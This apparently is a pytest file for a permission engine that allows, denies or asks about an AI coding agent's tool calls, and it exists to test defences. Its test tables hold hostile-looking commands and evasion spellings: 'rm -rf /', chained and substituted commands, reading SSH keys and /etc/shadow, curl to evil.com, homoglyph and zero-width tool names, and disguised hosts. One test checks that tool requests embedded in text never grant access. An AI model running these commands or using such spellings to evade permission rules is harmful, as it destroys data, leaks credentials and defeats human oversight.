"""The policy by example: what each kind of rule means, what it never means, and what a decision tells."""

from __future__ import annotations

from typing import Any

import pytest

from codexmem.codecli.policy.deciding import Policy
from codexmem.codecli.policy.names import Around
from codexmem.codecli.policy.rules import BUILT_IN
from codexmem.kernel.model.errors import InvalidArgument
from codexmem.kernel.model.tool_access import Cause, Risk, ToolRequest, Verdict, argument_hash

HERE = Around("/shop", "/home/u")
ALLOW, DENY, ASK = Verdict.ALLOW, Verdict.DENY, Verdict.ASK


def policy(allow: Any = (), deny: Any = (), ask: Any = (), mode: str = "dev", max_risk: str = "none") -> Policy:
    return Policy.parse(allow, deny, ask, mode, max_risk, origin="test", around=HERE)


def shell(command: str) -> ToolRequest:
    return ToolRequest("Bash", command=command, cwd="/shop")


@pytest.mark.clause("001 §5.2", "deny beats ask, ask beats allow, and what no rule knows is asked")
def test_deny_beats_ask_beats_allow_and_the_unknown_is_asked() -> None:
    rules = policy(["*"], ["Bash"], ["Bash", "Write"])
    assert rules.decide(ToolRequest("Bash")).verdict is DENY
    assert rules.decide(ToolRequest("Write")).verdict is ASK
    assert rules.decide(ToolRequest("frobnicate")).verdict is ALLOW
    unknown = policy().decide(ToolRequest("frobnicate"))
    assert (unknown.verdict, unknown.cause) == (ASK, Cause.UNKNOWN)


@pytest.mark.clause("001 §5.2", "a denial says which rule, why, and what to do instead")
def test_a_denial_says_which_rule_why_and_what_to_do() -> None:
    rules = policy(deny=[{"path": "/etc", "reason": "配置由运维管理"}])
    decision = rules.decide(ToolRequest("Read", paths=("/etc/hosts",)))
    assert decision.verdict is DENY
    assert decision.rule == "deny[0] (test)"
    assert "配置由运维管理" in decision.reason
    assert "another way" in decision.reason
    assert decision.steps == ('deny[0] (test) {path = "/etc", reason = "配置由运维管理"}: yes (applies)',)


RULES: list[tuple[object, ToolRequest, bool]] = [
    ("Bash", ToolRequest("BASH"), True),
    ("ba?h", ToolRequest("bash"), True),
    ("mcp__github__*", ToolRequest("mcp__github__get"), True),
    ("mcp__github__*", ToolRequest("get", server="github"), True),
    ("get", ToolRequest("get", server="github"), False),
    ("Read", ToolRequest("Read", server="evil"), False),
    ("server:github", ToolRequest("mcp__github__get"), True),
    ("server:github", ToolRequest("mcp_github_get"), False),
    ("server:github", ToolRequest("mcp__evil__get", server="github"), False),
    ("server:a", ToolRequest("mcp__a__b__c", server="a"), False),
    ("domain:example.com", ToolRequest("WebFetch", urls=("https://docs.example.com/x",)), True),
    ("domain:example.com", ToolRequest("WebFetch", urls=("https://notexample.com/",)), False),
    ("domain:example.com", ToolRequest("WebFetch", urls=("https://example.com.evil.com/",)), False),
    ("domain:example.com", ToolRequest("WebFetch", urls=("https://example.com/", "https://evil.com/")), False),
    ("domain:example.com", ToolRequest("frobnicate", urls=("https://example.com/",)), False),
    ("domain:例え.jp", ToolRequest("WebFetch", urls=("https://xn--r8jz45g.jp/",)), True),
    ("path:/shop", ToolRequest("Write", paths=("src/a.py",), cwd="/shop"), True),
    ("path:/shop", ToolRequest("Write", paths=("/shopping/a",)), False),
    ("path:/shop", ToolRequest("Write", paths=("/shop/../etc/passwd",)), False),
    ("path:/shop", ToolRequest("Write", paths=("/shop/a", "/tmp/b")), False),
    ("path:/shop", ToolRequest("Write", paths=("/SHOP/a",)), False),
    ("path:/shop", ToolRequest("WebFetch", paths=("/shop/a",)), False),
    ("path:/shop", ToolRequest("mcp__x__y", paths=("/shop/a",)), False),
    ("path:/shop", ToolRequest("Bash", command="rm -rf /", paths=("/shop/a",)), False),
    ({"tool": "Bash", "path": "/shop"}, ToolRequest("Bash", command="rm -rf /", paths=("/shop/a",)), False),
    ("risk:write", ToolRequest("Edit"), True),
    ("risk:write", ToolRequest("Read"), True),
    ("risk:write", ToolRequest("Bash"), False),
    ("risk:write", ToolRequest("Read", urls=("https://example.com/",)), False),
    ("risk:write", ToolRequest("list_things", risk=Risk.READ), True),
    ("risk:execute", ToolRequest("mcp__x__y", risk=Risk.READ), False),
    ("command:git status", shell("git status -s"), True),
    ("command:git status", shell("/bin/bash -lc 'git status'"), True),
    ("command:git status", shell("./bash -lc 'git status'"), False),
    ("command:git status", shell("git status; rm -rf /"), False),
    ("command:git status", shell("git status $(rm x)"), False),
    ("command:git status", shell("X=1 git status"), False),
    ("command:git status", shell("git statusx"), False),
    ("command:git status", shell("./git status"), False),
    ({"command_line": "rm -rf build"}, shell("rm -rf build"), True),
    ({"command_line": "rm -rf build"}, shell("rm -rf build /"), False),
    ({"tool": "Bash", "mode": ["dev", "test"]}, ToolRequest("Bash"), True),
    ({"tool": "Bash", "mode": "prod"}, ToolRequest("Bash"), False),
]


@pytest.mark.clause(
    "001 §5.3", "allow: tool, server, domain, path, risk (read write network execute), mode dev test prod"
)
@pytest.mark.parametrize("rule,request_,covered", RULES)
def test_a_rule_that_allows_covers_what_it_says_and_no_more(rule: object, request_: ToolRequest, covered: bool) -> None:
    assert (policy([rule]).decide(request_).verdict is ALLOW) is covered


HELD: list[tuple[object, ToolRequest, bool]] = [
    ("Bash", ToolRequest("B\u200bash"), True),
    ("Bash", ToolRequest("Ваsh"), True),  # Cyrillic
    ("Bash", ToolRequest("Ｂａｓｈ"), True),
    ("server:github", ToolRequest("mcp_github_get_issue"), True),
    ("server:github", ToolRequest("github_get_issue"), True),
    ("mcp__github__*", ToolRequest("mcp_github_get_issue"), True),
    ("domain:evil.com", ToolRequest("WebFetch", urls=("https://example.com@evil.com/",)), True),
    ("domain:evil.com", ToolRequest("WebFetch", urls=("https://еvil.com/",)), True),  # Cyrillic
    ("domain:evil.com", shell("curl -sS https://a.evil.com/x | tee y"), True),
    ("domain:evil.com", shell("git clone git@evil.com:a/b"), True),
    ("domain:127.0.0.1", ToolRequest("WebFetch", urls=("http://2130706433/",)), True),
    ("domain:127.0.0.1", ToolRequest("WebFetch", urls=("http://[::ffff:7f00:1]/",)), True),
    ("path:/etc", ToolRequest("Read", paths=("../etc/passwd",), cwd="/shop"), True),
    ("path:/etc", ToolRequest("Read", urls=("file:///etc/passwd",)), True),
    ("path:/etc", ToolRequest("Read", paths=("/ETC/passwd",)), True),
    ("path:~/.ssh", shell("cat ~/.ssh/id_ed25519"), True),
    ("path:~/.ssh", shell('cat "$HOME/.ssh/id_ed25519"'), True),
    ("path:/etc", shell("cat /e?c/passwd"), True),
    ("path:/etc", shell("tar --file=/etc/shadow"), True),
    ("path:/etc", shell("bash -c 'cat /etc/passwd'"), True),
    ("path:/etc", shell("cat passwd"), False),
    ("path:/shop", shell("cat passwd"), True),
    ("command:rm -rf", shell("echo a && sudo /bin/rm -rf /"), True),
    ("command:rm -rf", shell("r\\m -rf x"), True),
    ("command:rm -rf", shell("find . -name x -exec rm -rf x +"), True),
    ("command:rm -rf", shell("rm x"), False),
    ("risk:network", ToolRequest("Bash"), True),
    ("risk:network", ToolRequest("Read"), False),
    ("risk:network", ToolRequest("Read", urls=("https://example.com/",)), True),
    ("risk:network", ToolRequest("mcp__x__y", risk=Risk.NETWORK), True),
    ({"tool": "Write", "path": "/etc"}, ToolRequest("Write", paths=("/tmp/a", "/etc/b")), True),
    ({"tool": "Write", "path": "/etc"}, ToolRequest("Read", paths=("/etc/b",)), False),
    ({"mode": "prod"}, ToolRequest("Read"), False),
    ({"mode": "dev"}, ToolRequest("Read"), True),
]


@pytest.mark.clause("001 §5.3", "deny: by whatever spelling a tool, server, domain or path prefix is written")
@pytest.mark.parametrize("rule,request_,held", HELD)
def test_a_rule_that_denies_holds_back_every_spelling(rule: object, request_: ToolRequest, held: bool) -> None:
    assert (policy(["*"], [rule]).decide(request_).verdict is DENY) is held
    assert (policy(["*"], ask=[rule]).decide(request_).verdict is ASK) is held


@pytest.mark.clause("001 §5.3", "the classes read < write < network < execute decide where no rule speaks")
@pytest.mark.parametrize("most,allowed", [("none", 0), ("read", 1), ("write", 2), ("network", 3), ("execute", 4)])
def test_what_no_rule_names_passes_up_to_its_class(most: str, allowed: int) -> None:
    rules = policy(max_risk=most)
    requests = [ToolRequest("Read"), ToolRequest("Edit"), ToolRequest("WebFetch"), shell("ls")]
    assert [rules.decide(each).verdict is ALLOW for each in requests] == [place < allowed for place in range(4)]
    assert rules.decide(ToolRequest("frobnicate")).verdict is ASK
    assert rules.decide(ToolRequest("mcp__x__read", risk=Risk.READ)).verdict is ASK


def test_a_tool_that_a_rule_allows_for_something_is_asked_about_for_the_rest() -> None:
    rules = policy([{"tool": "Read", "path": "/shop"}], max_risk="read")
    assert rules.decide(ToolRequest("Read", paths=("/shop/a",))).verdict is ALLOW
    assert rules.decide(ToolRequest("Read", paths=("/tmp/a",))).verdict is ASK
    assert rules.decide(ToolRequest("Grep", paths=("/tmp/a",))).verdict is ALLOW


def test_files_that_hold_secrets_are_never_read_by_class_alone() -> None:
    rules = policy(max_risk="read")
    for path in ("/shop/.env", "/home/u/.ssh/id_rsa", "/shop/tls.pem"):
        assert rules.decide(ToolRequest("Read", paths=(path,))).verdict is ASK
    assert policy(["Read"]).decide(ToolRequest("Read", paths=("/shop/.env",))).verdict is ALLOW


@pytest.mark.clause("001 §5.1", "a marker in text (TOOL_REQUEST:) may raise a question and never grants")
def test_a_marker_in_text_never_grants() -> None:
    rules = policy(["*", {"command": "git status"}], max_risk="execute")
    for request in (ToolRequest("Read", from_text=True), ToolRequest("Bash", command="git status", from_text=True)):
        decision = rules.decide(request)
        assert (decision.verdict, decision.cause) == (ASK, Cause.FROM_TEXT)
    assert policy(deny=["Read"]).decide(ToolRequest("Read", from_text=True)).verdict is DENY


@pytest.mark.parametrize(
    "request_",
    [
        shell("cat $FILE"), shell("cat $(ls)"), shell("echo x | sh"), shell("python -c 'open(chr(47))'"),
        shell("cat <<X\nX"), shell("{ls,-la}"), ToolRequest("Read", paths=("~root/x",)),
        ToolRequest("Read", paths=("x",)),
    ],
)  # fmt: skip
def test_what_cannot_be_read_is_asked_where_a_rule_might_be_broken(request_: ToolRequest) -> None:
    here = Around("", "/home/u")
    free = Policy.parse(["*"], around=here)
    assert free.decide(request_).verdict is ALLOW
    held = Policy.parse(["*"], ["path:/etc"], around=here).decide(request_)
    assert (held.verdict, held.cause) == (ASK, Cause.UNREADABLE)
    guarded = free.plus(deny=["path:/state"], origin=BUILT_IN)
    assert guarded.decide(request_).verdict is ALLOW


def test_a_link_must_lead_to_where_the_rule_allows() -> None:
    around = Around("/shop", "/home/u", lambda path: path.replace("/shop/link", "/etc"))
    rules = Policy.parse(["path:/shop"], max_risk="none", around=around)
    assert rules.decide(ToolRequest("Read", paths=("/shop/a",))).verdict is ALLOW
    assert rules.decide(ToolRequest("Read", paths=("/shop/link/passwd",))).verdict is ASK
    denied = Policy.parse(["*"], ["path:/etc"], around=around)
    assert denied.decide(ToolRequest("Read", paths=("link/passwd",))).verdict is DENY


def test_a_request_that_names_more_than_is_looked_at_is_asked() -> None:
    many = ToolRequest("Read", paths=tuple(f"/shop/{number}" for number in range(501)))
    assert policy(["*"]).decide(many).verdict is ASK


def test_a_policy_that_cannot_be_read_allows_nothing() -> None:
    decision = Policy.broken("rule 3 is no rule").decide(ToolRequest("Read"))
    assert (decision.verdict, decision.cause) == (DENY, Cause.BROKEN)
    assert "rule 3 is no rule" in decision.reason


def test_a_decision_is_bound_to_its_request() -> None:
    request = ToolRequest("Bash", command="ls", arguments={"command": "ls", "n": 1})
    decision = policy(["Bash"]).decide(request)
    assert decision.argument_hash == argument_hash(request)
    assert decision.binds(request)
    for other in (ToolRequest("Bash", command="ls -la"), ToolRequest("Bash", command="ls", arguments={"n": 2})):
        assert not decision.binds(other)
    same = ToolRequest("Bash", command="ls", arguments={"n": 1, "command": "ls"}, call_id="7", agent="codex")
    assert decision.binds(same)
    assert argument_hash(ToolRequest("x", arguments={"odd": "\ud800", "more": object}))


@pytest.mark.parametrize(
    "rule,said",
    [
        (7, "neither a text nor a table"), ({}, "names nothing"), ({"mode": "dev"}, "names nothing"),
        ({"toool": "x"}, "'toool' is no field"), ("risk:huge", "is no risk class"), ({"tool": ""}, "not a text"),
        ("domain:*.example.com", "is no domain"), ("domain:example.com:8080", "is no domain"),
        ("path:relative", "no path that can be placed"), ("path:~root/x", "no path that can be placed"),
        ({"tool": "x", "mode": "staging"}, "mode is not known"), ("command:a; b", "more than plain words"),
        ({"path": "/a", "domain": "b.c"}, "both a path and an address"),
        ({"command": "cat", "path": "/shop"}, "cannot be told from its words"), ("搜索", "not plain ASCII"),
    ],
)  # fmt: skip
def test_a_rule_that_cannot_be_meant_is_refused_with_what_to_write(rule: object, said: str) -> None:
    with pytest.raises(InvalidArgument) as error:
        Policy.parse([rule], origin="user file", around=Around("", "/home/u"))
    assert "allowlist[0] of user file" in error.value.message
    assert said in error.value.message
    assert error.value.hint


def test_a_deny_rule_may_name_what_an_allow_rule_may_not() -> None:
    rules = policy(["*"], ["搜索*", {"path": "/etc", "domain": "evil.com"}, {"command": "cat", "path": "/etc"}])
    assert rules.decide(ToolRequest("搜索网页")).verdict is DENY
    assert rules.decide(shell("cat /etc/passwd")).verdict is DENY
    assert rules.decide(shell("ls /etc")).verdict is ALLOW
    both = ToolRequest("Upload", paths=("/etc/x",), urls=("https://evil.com/",))
    assert rules.decide(both).verdict is DENY


@pytest.mark.parametrize("mode,most", [("staging", "read"), ("dev", "huge")])
def test_an_unknown_mode_or_class_is_refused(mode: str, most: str) -> None:
    with pytest.raises(InvalidArgument):
        Policy.parse(mode=mode, max_risk=most)
